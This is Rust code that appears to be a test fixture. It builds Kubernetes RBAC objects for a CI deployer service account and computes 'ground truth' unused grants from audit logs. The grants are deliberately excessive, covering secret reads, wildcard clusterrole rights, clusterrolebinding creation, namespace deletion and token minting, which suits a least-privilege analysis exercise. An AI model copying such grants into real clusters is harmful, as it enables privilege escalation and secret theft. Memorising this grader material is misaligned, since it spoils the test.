            "system:serviceaccount:ci:deployer",
            vec![
                g("get", "apps", "deployments", None),
                g("patch", "apps", "deployments", None),
                g("list", "", "configmaps", None),
                g("list", "", "secrets", None),
                g("get", "", "secrets", None),
                g("create", "", "pods", None),
                g("*", "rbac.authorization.k8s.io", "clusterroles", None),
                g(
                    "create",
                    "rbac.authorization.k8s.io",
                    "clusterrolebindings",
                    None,
                ),
                g("delete", "", "namespaces", None),
                g("create", "", "serviceaccounts/token", None),
            ],
        ),
    ]
}

/// `kubectl get roles,clusterroles,rolebindings,clusterrolebindings -A -o json` for
/// [`rbac_grants`]: one Role per namespaced grant set, one ClusterRole per cluster-wide
/// set, each bound to its service account.
pub fn rbac_objects() -> Value {
    let mut items = Vec::new();
    for (user, grants) in rbac_grants() {
        let mut parts = user.rsplit(':');
        let (Some(sa), Some(sa_ns)) = (parts.next(), parts.next()) else {
            continue;
        };
        let mut scopes: Vec<Option<&str>> = grants.iter().map(|g| g.namespace).collect();
        scopes.sort();
        scopes.dedup();
        for scope in scopes {
            let rules: Vec<Value> = grants
                .iter()
                .filter(|g| g.namespace == scope)
                .map(|g| json!({"apiGroups": [g.group], "resources": [g.resource], "verbs": [g.verb]}))
                .collect();
            let name = format!("{sa_ns}-{sa}");
            let subject = json!([{"kind": "ServiceAccount", "name": sa, "namespace": sa_ns}]);
            match scope {
                Some(ns) => {
                    items.push(
                        json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                        "metadata": {"name": name, "namespace": ns}, "rules": rules}),
                    );
                    items.push(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                        "metadata": {"name": name, "namespace": ns},
                        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
                        "subjects": subject}));
                }
                None => {
                    items.push(
                        json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                        "metadata": {"name": name}, "rules": rules}),
                    );
                    items.push(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                        "metadata": {"name": name},
                        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name},
                        "subjects": subject}));
                }
            }
        }
    }
    json!({"apiVersion": "v1", "kind": "List", "items": items})
}

/// Ground truth: the grants of `user` that no allowed request of the scenario used.
pub fn unused_grants(items: &[Item], user: &str) -> BTreeSet<Grant> {
    let grants = rbac_grants()
        .into_iter()
        .find(|(u, _)| *u == user)
        .map(|(_, g)| g)
        .unwrap_or_default();
    let mut unused: BTreeSet<Grant> = grants.iter().cloned().collect();
    for item in items.iter().filter(|i| i.kind == Kind::Audit) {
        let e = &item.body;
        if e["user"]["username"] != user || e["responseStatus"]["code"].as_u64().unwrap_or(0) >= 400
        {
            continue;
        }
        let verb = e["verb"].as_str().unwrap_or("");
        let object = &e["objectRef"];
        let group = object["apiGroup"].as_str().unwrap_or("");
        let mut resource = object["resource"].as_str().unwrap_or("").to_string();
        if let Some(sub) = object["subresource"].as_str() {
            resource = format!("{resource}/{sub}");
        }
        let namespace = object["namespace"].as_str();
        for g in &grants {
            let verb_ok = g.verb == "*" || g.verb == verb;
            let scope_ok = g.namespace.is_none() || g.namespace == namespace;
            if verb_ok && scope_ok && g.group == group && g.resource == resource {
                unused.remove(g);
            }
        }
    }
    unused
}
